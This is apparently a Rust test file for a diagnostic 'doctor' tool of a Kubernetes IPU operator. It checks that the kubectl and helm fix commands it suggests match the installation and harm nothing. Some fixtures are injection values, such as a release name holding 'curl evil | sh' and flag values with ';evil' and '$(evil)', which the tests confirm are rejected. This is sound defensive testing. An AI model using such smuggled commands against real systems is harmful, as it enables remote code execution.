//! Commands fit the installation, and none of them harms it.

use ipu_core::JobKey;
use serde_json::json;

use super::snapshots::{by_manifests, large_phase, ledger, object, owner, pod};
use super::{found, get, only};
use crate::doctor::facts::{Fact, Facts, MissingPermission, WebhookConfiguration};
use crate::doctor::finding::{CommandKind, Finding};
use crate::installation::{Installation, Origin};

fn command(finding: &Finding) -> &str {
    finding.fix.command.as_deref().unwrap_or_default()
}

fn note(finding: &Finding) -> &str {
    finding.fix.note.as_deref().unwrap_or_default()
}

/// Marks the installation as a release of Helm.
fn by_helm(facts: &mut Facts) {
    let release = Origin::Release("gc".into());
    get(&mut facts.installation).origin = release.clone();
    for configurations in [&mut facts.mutating, &mut facts.validating] {
        let own = &mut get(configurations)[0];
        own.origin = release.clone();
        own.release_namespace = Some("ipu-operator-system".into());
    }
}

fn quarantined(id: &str) -> Facts {
    let mut facts = by_manifests();
    facts.tracker = ledger(id, &json!({"phase": {"is": "quarantined"}}));
    facts
}

#[test]
fn a_quarantined_partition_is_shown_with_its_user_and_never_with_a_release() {
    let key = JobKey::new("team", "training", "uid-1").unwrap();
    let of_job = quarantined(key.partition_id(3).as_str());
    let mut of_pod = quarantined("p-old-0-aaaaaaaaaaaaaaaa");
    let env = json!([{"name": "IPUOF_VIPU_API_PARTITION_ID", "value": "p-old-0-aaaaaaaaaaaaaaaa"}]);
    let worker = pod(&json!({"spec": {"containers": [{"name": "main", "env": env}]}}));
    of_pod.pods = Fact::Read(vec![object(worker)]);
    let mut hidden = quarantined("p-old-0-aaaaaaaaaaaaaaaa");
    hidden.jobs = Fact::Hidden("forbidden".into());
    for (facts, user, check) in [
        (
            of_job,
            "IPUJob team/training, which exists",
            "kubectl ipu -n team why training",
        ),
        (
            of_pod,
            "Pod team/training-worker-0-0 uses it",
            "kubectl -n team get pod",
        ),
        (
            quarantined("p-slurm-4711-0-aaaaaaaaaaaaaaaa"),
            "Slurm job 4711",
            "scontrol show job 4711",
        ),
        (
            quarantined("p-old-0-aaaaaaaaaaaaaaaa"),
            "no IPUJob or Pod of this cluster",
            "get ipujobs",
        ),
        (hidden, "its user is not known: forbidden", "get ipujobs"),
    ] {
        let finding = only("PartitionsQuarantined", &facts);
        assert!(finding.actual.contains(user), "{finding:?}");
        assert!(command(&finding).contains(check), "{finding:?}");
        assert_eq!(finding.fix.command_kind, Some(CommandKind::Inspect));
        assert!(!command(&finding).contains("release"), "{finding:?}");
        assert!(
            note(&finding).to_lowercase().contains("release it"),
            "{finding:?}"
        );
    }
}

#[test]
fn a_partition_of_a_namespace_that_is_not_watched_is_no_leak() {
    let mut facts = by_manifests();
    facts.tracker = ledger(
        "p-old-0",
        &json!({"owner": owner("old", "uid-0"), "since": 1_700_000_000_000_u64}),
    );
    assert_eq!(found("PartitionsLeaked", &facts).len(), 1);
    get(&mut facts.installation).watch_namespaces = ["other".to_owned()].into();
    let rule = super::rules::all()
        .find(|rule| rule.code == "PartitionsLeaked")
        .unwrap();
    let reason = (rule.check)(&facts).unwrap_err();
    assert!(
        reason.contains("IPUJob team/old, in a namespace that the installation does not watch"),
        "{reason}"
    );
}

#[test]
fn pods_of_namespaces_that_are_not_watched_do_not_count() {
    let mut facts = super::snapshots::without_host_network();
    facts.attachments = Fact::Read(None);
    assert_eq!(found("NetworkAttachmentAbsent", &facts).len(), 1);
    get(&mut facts.installation).watch_namespaces = ["other".to_owned()].into();
    assert!(found("NetworkAttachmentAbsent", &facts).is_empty());
}

/// Plants faults whose commands apply objects of the bundle.
fn with_absent_objects() -> Facts {
    let mut facts = by_manifests();
    facts.proxy = Fact::Read(None);
    facts.validating = Fact::Read(Vec::new());
    let crd = get(&mut facts.crd).as_mut().unwrap();
    crd.metadata.annotations = None;
    facts
}

#[test]
fn a_plugin_of_another_version_prints_its_version_instead_of_commands_that_change_it() {
    for by in [Origin::Manifests, Origin::Rendering, Origin::Release("gc".into())] {
        let mut facts = with_absent_objects();
        let installation = get(&mut facts.installation);
        installation.origin = by;
        installation.version = Some("99.1.0".into());
        for code in ["ProxyNotReady", "WebhookAbsent", "CrdOlder"] {
            let finding = only(code, &facts);
            assert_eq!(finding.fix.command, None, "{finding:?}");
            assert!(
                note(&finding).contains("Use kubectl ipu of version 99.1.0"),
                "{finding:?}"
            );
        }
        get(&mut facts.installation).version = None;
        let finding = only("ProxyNotReady", &facts);
        assert_eq!(finding.fix.command, None, "{finding:?}");
        assert!(note(&finding).contains("is not known"), "{finding:?}");
    }
}

#[test]
fn an_installed_crd_of_a_newer_version_is_never_replaced() {
    let mut facts = by_manifests();
    get(&mut facts.installation).version = Some("99.2.0".into());
    let crd = get(&mut facts.crd).as_mut().unwrap();
    let newer = [("graphcore.ai/crd-version".to_owned(), "99.1.0".to_owned())];
    crd.metadata.annotations = Some(newer.into());
    let finding = only("CrdOlder", &facts);
    assert_eq!(finding.fix.command, None, "{finding:?}");
    // Without an operator, the CRD alone shows the version.
    get(&mut facts.operators).clear();
    let finding = only("OperatorAbsent", &facts);
    assert_eq!(finding.fix.command, None, "{finding:?}");
    assert!(note(&finding).contains("99.1.0"), "{finding:?}");
}

#[test]
fn a_rendering_of_the_chart_is_no_release_of_helm() {
    let label = json!({"app.kubernetes.io/managed-by": "Helm"});
    let annotation = json!({"meta.helm.sh/release-name": "gc"});
    let injected = json!({"meta.helm.sh/release-name": "gc; curl evil | sh"});
    for (metadata, expected) in [
        (
            json!({"labels": label, "annotations": annotation}),
            Origin::Release("gc".into()),
        ),
        (json!({"labels": label}), Origin::Rendering),
        (
            json!({"labels": label, "annotations": injected}),
            Origin::Rendering,
        ),
        (json!({}), Origin::Manifests),
    ] {
        assert_eq!(Origin::of(&object(metadata)), expected);
    }
    let mut facts = with_absent_objects();
    get(&mut facts.installation).origin = Origin::Rendering;
    let finding = only("ProxyNotReady", &facts);
    assert!(
        command(&finding).starts_with("helm template ipu-operator deploy/helm/"),
        "{finding:?}"
    );
    assert!(
        // Its RoleBindings are in the watched namespaces.
        command(&finding).ends_with("--values VALUES.yaml | kubectl apply -f -"),
        "{finding:?}"
    );
    assert_eq!(finding.fix.command_kind, Some(CommandKind::Template));
    get(&mut facts.installation).origin = Origin::Release("gc".into());
    assert_eq!(
        command(&only("ProxyNotReady", &facts)),
        "helm upgrade gc deploy/helm/ipu-operator --namespace ipu-operator-system --reset-then-reuse-values"
    );
}

#[test]
fn names_in_flags_add_no_command_to_the_commands_of_doctor() {
    let operator = json!({"metadata": {"name": "o", "namespace": "n"}, "spec": {"selector": {}, "template": {"spec": {
        "containers": [{"name": "m", "args": [
            "--vipu-proxy-svc=https://p;evil.n.svc", "--webhook-secret=s;evil", "--leader-election-id=$(evil)",
            "--proxy-secret=--all",
        ]}],
    }}}});
    let installation = Installation::new(&object(operator), None).unwrap();
    assert_eq!(installation.webhook_secret, None);
    assert_eq!(installation.own_proxy_secret, None);
    assert_eq!(installation.lease, "ee82fc7a.graphcore.ai");
    assert_eq!(installation.proxy, "");
}

#[test]
fn an_operator_without_webhooks_is_no_reason_to_examine_another_one_than_that_with_webhooks() {
    let mut facts = by_manifests();
    let own = get(&mut facts.operators)[0].clone();
    let mut imitation = own.clone();
    imitation.metadata.namespace = Some("aaa".into());
    let namespaces = |facts: &Facts| -> Vec<String> {
        let mut all = vec![imitation.clone(), own.clone()];
        crate::doctor::trust::retain(&mut all, &facts.webhook_namespaces());
        let namespaces = all.into_iter().filter_map(|operator| operator.metadata.namespace);
        namespaces.collect()
    };
    assert_eq!(namespaces(&facts), ["ipu-operator-system"]);
    facts.mutating = Fact::Hidden("forbidden".into());
    facts.validating = Fact::Hidden("forbidden".into());
    assert_eq!(namespaces(&facts), ["aaa", "ipu-operator-system"]);
    // An imitation alone: the command names its namespace, and the note its origin.
    let finding = only("ProxyNotReady", &with_absent_objects());
    assert!(note(&finding).contains("can imitate one"), "{finding:?}");
}

#[test]
fn a_namespace_is_opened_for_privileged_pods_by_decision_only() {
    let mut facts = by_manifests();
    let label = [(
        "pod-security.kubernetes.io/enforce".to_owned(),
        "restricted".to_owned(),
    )];
    for namespace in get(&mut facts.namespaces) {
        namespace.metadata.labels = Some(label.clone().into());
    }
    let finding = only("NamespaceRestricted", &facts);
    assert!(
        note(&finding).contains("Do not run it if the level is your hardening"),
        "{finding:?}"
    );
}

/// Returns the webhook configuration of another installation with the same label and, perhaps, name.
fn of_other(own: &WebhookConfiguration, name: &str, origin: Origin) -> WebhookConfiguration {
    let mut other = own.clone();
    other.name = name.into();
    other.release_namespace = Some("second".into()).filter(|_| origin != Origin::Manifests);
    other.origin = origin;
    let service = "ipu-operator-webhook-svc".to_owned();
    other.webhooks[0].service = Some(("second".into(), service, "/mutate".into()));
    other.webhooks[0].ca_bundle.clear();
    other
}

#[test]
fn webhooks_of_another_installation_are_not_patched() {
    let mut facts = by_manifests();
    get(&mut facts.namespaces).push(object(json!({"metadata": {"name": "second"}})));
    let mut second = get(&mut facts.operators)[0].clone();
    second.metadata.namespace = Some("second".into());
    get(&mut facts.operators).push(second);
    let own = get(&mut facts.mutating)[0].clone();
    for origin in [Origin::Manifests, Origin::Release("gc".into())] {
        // Another namespace has a release of that name, as its label shows.
        get(&mut facts.mutating).truncate(1);
        get(&mut facts.mutating).push(of_other(&own, "other-admission", origin.clone()));
        for code in [
            "WebhookMisdirected",
            "WebhookWrongBundle",
            "WebhookAbsent",
            "WebhookOrphaned",
        ] {
            assert_eq!(found(code, &facts), [], "{origin:?}");
        }
        // The other one has taken the name.
        *get(&mut facts.mutating) = vec![of_other(&own, &own.name, origin.clone())];
        assert_eq!(found("WebhookMisdirected", &facts), [], "{origin:?}");
        let finding = only("WebhookAbsent", &facts);
        assert!(
            finding
                .actual
                .contains("another installation, in namespace second"),
            "{finding:?}"
        );
        assert_eq!(finding.fix.command, None, "{finding:?}");
        *get(&mut facts.mutating) = vec![own.clone()];
    }
}

#[test]
fn a_bundle_that_another_program_maintains_is_a_value_of_the_chart() {
    let mut facts = by_manifests();
    by_helm(&mut facts);
    let installation = get(&mut facts.installation);
    installation.webhook_secret = None;
    installation.webhook_configuration = None;
    get(&mut facts.mutating)[0].webhooks[0].ca_bundle.clear();
    let finding = only("WebhookWrongBundle", &facts);
    assert!(
        command(&finding).ends_with("--reset-then-reuse-values --set-file admissionWebhooks.caBundle=CA.crt"),
        "{finding:?}"
    );
    get(&mut facts.mutating)[0].certificate = Some("ipu/webhooks".into());
    let finding = only("WebhookWrongBundle", &facts);
    assert_eq!(command(&finding), "kubectl -n ipu describe certificate webhooks");
}

#[test]
fn values_of_a_release_are_set_by_helm() {
    let mut facts = by_manifests();
    by_helm(&mut facts);
    facts.controller_list = Fact::Read(None);
    let finding = only("ControllerListEmpty", &facts);
    assert!(
        command(&finding)
            .ends_with("--reset-then-reuse-values --set global.vipuControllers=HOST:8090:KEY=VALUE"),
        "{finding:?}"
    );
}

#[test]
fn an_orphaned_webhook_is_deleted_alone() {
    let mut facts = by_manifests();
    let mut orphan = get(&mut facts.mutating)[0].clone();
    orphan.name = "old-admission".into();
    orphan.webhooks[0].service = Some(("gone".into(), "svc".into(), "/".into()));
    get(&mut facts.mutating).push(orphan);
    let finding = only("WebhookOrphaned", &facts);
    assert_eq!(
        command(&finding),
        "kubectl delete mutatingwebhookconfiguration old-admission"
    );
    // Also without an operator.
    facts.installation = Fact::Hidden("no operator was found".into());
    assert_eq!(only("WebhookOrphaned", &facts), finding);
    get(&mut facts.mutating)[1].has_others = true;
    let finding = only("WebhookOrphaned", &facts);
    assert_eq!(finding.fix.command_kind, Some(CommandKind::Inspect));
}

/// Returns the fix of an absent operator, with these objects left.
fn without_operator(change: impl FnOnce(&mut Facts)) -> Finding {
    let mut facts = by_manifests();
    get(&mut facts.operators).clear();
    change(&mut facts);
    only("OperatorAbsent", &facts)
}

#[test]
fn an_absent_operator_is_not_created_beside_an_imitated_proxy() {
    let finding = without_operator(|facts| {
        let mut imitation = get(&mut facts.proxies)[0].clone();
        imitation.metadata.namespace = Some("aaa".into());
        get(&mut facts.proxies).insert(0, imitation);
    });
    assert!(
        command(&finding).contains("kubectl apply -n ipu-operator-system"),
        "{finding:?}"
    );
}

#[test]
fn an_absent_operator_is_created_as_the_rest_of_its_installation() {
    let nothing = without_operator(|facts| {
        facts.proxies = Fact::Read(Vec::new());
        facts.mutating = Fact::Read(Vec::new());
        facts.validating = Fact::Read(Vec::new());
    });
    let install = "helm install gc deploy/helm/ipu-operator --namespace ipu --create-namespace";
    assert_eq!(command(&nothing), install);

    let hidden = without_operator(|facts| facts.proxies = Fact::Hidden("forbidden".into()));
    assert_eq!(hidden.fix.command, None);
    assert!(note(&hidden).contains("is not known: forbidden"), "{hidden:?}");

    let by_manifests = without_operator(|_| ());
    assert!(
        command(&by_manifests)
            .contains("deploy/kubernetes/operator.yaml | kubectl apply -n ipu-operator-system"),
        "{by_manifests:?}"
    );
    assert!(
        command(&by_manifests).contains("image: registry.example.com/"),
        "{by_manifests:?}"
    );

    // The webhooks alone are left of a deleted namespace.
    let without_namespace = |facts: &mut Facts| {
        facts.proxies = Fact::Read(Vec::new());
        get(&mut facts.namespaces).truncate(1);
    };
    let deleted = without_operator(without_namespace);
    assert_eq!(
        command(&deleted),
        "kubectl kustomize deploy/kubernetes | kubectl apply -f -"
    );

    let release = |facts: &mut Facts| {
        by_helm(facts);
        facts.proxies = Fact::Read(Vec::new());
    };
    let upgrade =
        "helm upgrade gc deploy/helm/ipu-operator --namespace ipu-operator-system --reset-then-reuse-values";
    assert_eq!(command(&without_operator(release)), upgrade);
    let deleted = without_operator(|facts| {
        release(facts);
        without_namespace(facts);
    });
    assert_eq!(
        command(&deleted),
        "helm install gc deploy/helm/ipu-operator --namespace ipu-operator-system --create-namespace"
    );
    let rendered = without_operator(|facts| {
        for configurations in [&mut facts.mutating, &mut facts.validating] {
            get(configurations)[0].origin = Origin::Rendering;
        }
        facts.proxies = Fact::Read(Vec::new());
    });
    assert!(
        command(&rendered).starts_with("helm template ipu-operator"),
        "{rendered:?}"
    );
}

#[test]
fn the_limit_of_locked_memory_is_removed_from_the_runtime_of_the_node() {
    let control_plane = json!({"node-role.kubernetes.io/control-plane": "true"});
    for (runtime, labels, unit) in [
        ("containerd://2.2.1", json!({}), "containerd"),
        ("containerd://2.1.5-k3s1", json!({}), "k3s-agent"),
        ("containerd://2.1.5-k3s1", control_plane, "k3s"),
        ("cri-o://1.35.0", json!({}), "crio"),
        ("docker://28.5.1", json!({}), "docker"),
    ] {
        let mut facts = by_manifests();
        let failure = json!({"node": "node-x", "name": "w", "log": "ibv_reg_mr: Cannot allocate memory"});
        get(&mut facts.jobs)[0].first_failure = Ok(Some(object(failure)));
        let info = json!({
            "architecture": "", "bootID": "", "containerRuntimeVersion": runtime, "kernelVersion": "",
            "kubeProxyVersion": "", "kubeletVersion": "", "machineID": "", "operatingSystem": "",
            "osImage": "", "systemUUID": "",
        });
        get(&mut facts.nodes).push(object(json!({
            "metadata": {"name": "node-x", "labels": labels}, "status": {"nodeInfo": info},
        })));
        let finding = only("MemlockLimitTooLow", &facts);
        let command = command(&finding);
        assert!(
            command.ends_with(&format!("systemctl restart {unit}")),
            "{command}"
        );
        assert_eq!(
            command.contains("--default-ulimit memlock=-1:-1"),
            unit == "docker"
        );
    }
}

#[test]
fn a_node_of_unknown_runtime_gets_no_command_of_a_guessed_one() {
    let mut facts = by_manifests();
    let failure = json!({"node": "node-x", "name": "w", "log": "ibv_reg_mr: Cannot allocate memory"});
    get(&mut facts.jobs)[0].first_failure = Ok(Some(object(failure)));
    for nodes in [facts.nodes.clone(), Fact::Hidden("forbidden".into())] {
        facts.nodes = nodes;
        let finding = only("MemlockLimitTooLow", &facts);
        assert_eq!(command(&finding), "ipuctl render memlock --runtime RUNTIME");
    }
}

#[test]
fn rights_in_a_namespace_that_is_being_deleted_are_granted_in_the_cluster() {
    let mut facts = by_manifests();
    get(&mut facts.missing_permissions).push(MissingPermission {
        account: "system:serviceaccount:ipu-operator-system:ipu-operator-controller".into(),
        namespace: Some("closing".into()),
        verb: "get",
        resource: "pods".into(),
    });
    // The namespace does not exist.
    assert_eq!(found("PermissionMissing", &facts), []);
    let metadata = json!({"name": "closing", "deletionTimestamp": "2026-11-25T11:00:00Z"});
    get(&mut facts.namespaces).push(object(json!({"metadata": metadata})));
    get(&mut facts.installation).watch_namespaces = ["closing".to_owned()].into();
    let finding = only("PermissionMissing", &facts);
    assert_eq!(
        command(&finding),
        "kubectl create clusterrolebinding ipu-operator-end-of-namespace --clusterrole=ipu-operator-manager \
         --serviceaccount=ipu-operator-system:ipu-operator-controller"
    );
    assert!(note(&finding).contains("kubectl delete clusterrolebinding ipu-operator-end-of-namespace"));
}

#[test]
fn a_ledger_full_of_entries_without_a_namespace_is_shown_itself() {
    let mut facts = by_manifests();
    facts.tracker = ledger("p-old-0", &json!({"phase": large_phase()}));
    let finding = only("LedgerNearlyFull", &facts);
    let expected = "kubectl -n ipu-operator-system get configmap ipu-partitions-tracker -o yaml";
    assert_eq!(command(&finding), expected);
}

#[test]
fn many_imitations_of_an_operator_have_one_finding_each() {
    let mut facts = by_manifests();
    let own = get(&mut facts.operators)[0].clone();
    for number in 0..9 {
        let mut imitation = own.clone();
        imitation.metadata.name = Some(format!("imitation-{number}"));
        get(&mut facts.operators).push(imitation);
    }
    assert_eq!(found("InstallationsOverlap", &facts).len(), 9);
}

#[test]
fn the_removal_of_an_operator_removes_the_webhooks_that_lead_to_it() {
    let mut facts = by_manifests();
    let mut second = get(&mut facts.operators)[0].clone();
    second.metadata.namespace = Some("second".into());
    second.metadata.creation_timestamp = Some(object(json!("2026-11-25T11:00:00Z")));
    let first = &mut get(&mut facts.operators)[0];
    first.metadata.creation_timestamp = Some(object(json!("2026-11-25T10:00:00Z")));
    let proxy = get(&mut facts.proxy).clone();
    let other = Installation::new(&second, proxy.as_ref()).unwrap();
    get(&mut facts.operators).insert(0, second);
    get(&mut facts.others).push((other, Fact::Read(None)));
    let own = get(&mut facts.mutating)[0].clone();
    get(&mut facts.mutating).push(of_other(&own, "second-admission", Origin::Manifests));
    let finding = only("InstallationsOverlap", &facts);
    assert_eq!(
        command(&finding),
        "kubectl -n second delete deployment ipu-operator-controller-manager && kubectl delete \
         mutatingwebhookconfiguration second-admission"
    );
    // An installation with partitions, or with an unknown ledger, stays: its partitions would leak.
    let ledger = get(&mut facts.tracker).clone();
    let hidden = Fact::Hidden("cannot read ConfigMap: forbidden".into());
    for (ledger, expected) in [
        (Fact::Read(ledger), "has partitions: 1"),
        (hidden, "is not known: cannot read ConfigMap: forbidden"),
    ] {
        get(&mut facts.others)[0].1 = ledger;
        let finding = only("InstallationsOverlap", &facts);
        assert_eq!(
            command(&finding),
            "kubectl -n second get configmap ipu-partitions-tracker -o yaml"
        );
        assert_eq!(finding.fix.command_kind, Some(CommandKind::Inspect));
        let note = finding.fix.note.unwrap();
        assert!(note.contains(expected), "{note}");
    }
    // Its ledger may have another name than the default one, which does not exist.
    get(&mut facts.others)[0].0.proxy_account = None;
    get(&mut facts.others)[0].1 = Fact::Read(None);
    let finding = only("InstallationsOverlap", &facts);
    assert_eq!(command(&finding), "kubectl -n second get configmaps");
    assert_eq!(finding.fix.command_kind, Some(CommandKind::Inspect));
}
